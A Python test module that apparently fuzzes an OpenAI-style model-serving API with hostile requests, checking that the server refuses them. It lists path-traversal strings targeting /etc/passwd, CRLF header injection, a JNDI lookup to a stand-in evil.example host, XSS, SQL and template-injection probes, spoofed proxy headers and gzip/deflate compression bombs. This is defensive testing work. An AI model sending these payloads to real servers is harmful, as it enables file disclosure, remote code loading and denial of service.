"""Tricks with the bytes of names: paths, headers, encodings of text and of bodies."""

from __future__ import annotations

import gzip
import json
import zlib
from itertools import product

from tests.hostile.requests import CHAT, COMPLETIONS, MODEL, Corpus, Hostile, chat, completion, post, request

_REFUSED = frozenset({400})

_PATHS = (
    "..",
    "../..",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "%252e%252e%252fetc%252fpasswd",
    "%c0%ae%c0%ae/etc/passwd",
    "..\\..\\etc\\passwd",
    "..%5c..%5cetc",
    "....//....//etc/passwd",
    "..;/admin",
    "demo/..",
    "demo%2f..%2f..",
    "./demo",
    "demo/.",
    "demo%00",
    "demo%00.json",
    "%00",
    "%",
    "%zz",
    "%0d%0aX-Evil:%201",
    "demo%0d%0a%0d%0aGET%20/",
    "%e2%80%ae",
    "%ff%fe",
    "demo;a=b",
    "demo?x=%00",
    "demo#x",
    "~root",
    "$(id)",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "'%20OR%201=1--",
    "demo__engine",
    "demo__tokenizer",
    "%2f",
    "/",
    "//",
    "a" * 300,
    "a/" * 300,
    "CON",
    "demo%20",
)


def paths() -> Corpus:
    """Yield paths that lead elsewhere."""
    for prefix, path in product(("/", "/v1/models/", "/v1/"), _PATHS):
        yield Hostile(f"path {prefix}{path[:40]}", request("GET", prefix + path))
    for path in _PATHS:
        yield Hostile(f"model {path[:40]}", completion(model=path))
    for model in ("demo\x00", "../demo", "demo/1/model", "demo\r\nX-Evil: 1", "\u202e", "a" * 100_000, " demo", "DEMO"):
        yield Hostile(f"model {model[:20]!r}", chat(model=model))


_HEADERS = (
    "x-request-id: a\tb",
    "x-request-id: " + "a" * 5000,
    "x-request-id: ${jndi:ldap://evil.example/a}",
    "x-request-id: <script>",
    "OpenAI-Organization: a b",
    "OpenAI-Organization: " + "o" * 5000,
    "OpenAI-Project: %0d%0aX-Evil: 1",
    "Authorization: Bearer " + "x" * 8000,
    "Authorization: Basic !!!!",
    "Authorization: Bearer \xff",
    "Cookie: " + "a=b; " * 2000,
    "X-Forwarded-For: 127.0.0.1",
    "X-Forwarded-Host: evil.example",
    "X-Original-URL: /admin",
    "X-HTTP-Method-Override: DELETE",
    "Forwarded: for=evil.example",
    "Range: bytes=0-10",
    "Range: bytes=" + "0-1," * 1000,
    "If-None-Match: *",
    "Accept: application/xml",
    "Accept-Encoding: " + "gzip," * 1000,
    "Accept-Charset: utf-7",
    "Content-Type: text/xml",
    "Content-Type: application/json; charset=utf-16",
    "Content-Type: multipart/form-data",
    "Content-Type: multipart/form-data; boundary=" + "x" * 1000,
    "Content-Type: \xff",
    "Content-Type: ;;;",
    "Connection: close, x-request-id",
    "Connection: keep-alive, Transfer-Encoding",
    "Keep-Alive: timeout=999999",
    "TE: trailers, deflate",
    "Trailer: Content-Length",
    "Max-Forwards: -1",
    "traceparent: 00-zz-zz-zz",
    "Origin: null",
    "Referer: http://evil.example/\xff",
)


def headers() -> Corpus:
    """Yield headers that are long, malformed, or meant for proxies."""
    for header in _HEADERS:
        raw = post({"model": MODEL, "prompt": "hi", "max_tokens": 1}, headers=(header.encode("latin-1"),))
        yield Hostile(f"header {header[:40]!r}", raw)
    yield Hostile("a megabyte", request("GET", "/v1/models", (b"X: " + b"a" * 2**20,)), frozenset({431}))
    yield Hostile("a name of a megabyte", request("GET", "/v1/models", (b"X" * 2**20 + b": a",)), frozenset({431}))
    yield Hostile("ten thousand", request("GET", "/v1/models", ("X: y",) * 10_000), frozenset({431}))
    yield Hostile("a long URL", request("GET", "/v1/models/" + "a" * 100_000), frozenset({414}))
    yield Hostile("a long query", request("GET", "/v1/models?" + "a=b&" * 100_000), frozenset({414}))


_NOT_UTF8 = (
    b"\xff",
    b"\xfe\xff",
    b"\x80",
    b"\xc0\xaf",
    b"\xc3",
    b"\xe2\x82",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xed\xa0\xbd\xed\xb8\x80",
)


def not_utf8() -> Corpus:
    """Yield bytes that are not UTF-8, in every place for text."""
    for text in _NOT_UTF8:
        yield Hostile(f"{text!r} in a path", request("GET", b"/v1/models/" + text))
        yield Hostile(f"{text!r} in a query", request("GET", b"/v1/models?" + text))
        yield Hostile(f"{text!r} in a header", request("GET", "/v1/models", (b"X-Request-Id: " + text,)))
        yield Hostile(f"{text!r} as a body", post(text), _REFUSED)
        for body in (b'{"model": "demo", "prompt": "%s"}', b'{"model": "%s", "prompt": "a"}', b'{"%s": "demo"}'):
            yield Hostile(f"{text!r} in {body!r}", post(body % text), _REFUSED)
        yield Hostile(
            f"{text!r} in a message",
            post(b'{"model": "demo", "messages": [{"role": "user", "content": "%s"}]}' % text, CHAT),
            _REFUSED,
        )
    for encoding in ("utf-16", "utf-32", "utf-7", "utf-8-sig", "latin-1"):
        body = json.dumps({"model": "demo", "prompt": "é", "max_tokens": 1}, ensure_ascii=False).encode(encoding)
        yield Hostile(f"a body in {encoding}", post(body))


_BODY = json.dumps({"model": MODEL, "prompt": "hi", "max_tokens": 1}).encode()
_ENCODED = {
    "gzip": (gzip.compress(_BODY), gzip.compress(b" " * 200_000_000), gzip.compress(gzip.compress(_BODY)), _BODY),
    "deflate": (zlib.compress(_BODY), zlib.compress(b"[" * 100_000_000), _BODY, b""),
    "br": (_BODY, b"\xff" * 100),
    "zstd": (_BODY, b"\x28\xb5\x2f\xfd"),
    "identity": (_BODY,),
    "compress": (_BODY,),
    "gzip, gzip": (gzip.compress(gzip.compress(_BODY)),),
    "x" * 1000: (_BODY,),
}


def encodings() -> Corpus:
    """Yield compressed bodies that unpack to far more, or not at all."""
    for encoding, bodies in _ENCODED.items():
        for number, body in enumerate(bodies):
            for target in (COMPLETIONS, "/tokenize"):
                raw = post(body, target, (f"Content-Encoding: {encoding}",))
                yield Hostile(f"body {number} as {encoding[:20]} to {target}", raw)
    cut = gzip.compress(_BODY)[:-6]
    yield Hostile("a gzip that is cut off", post(cut, headers=("Content-Encoding: gzip",)))
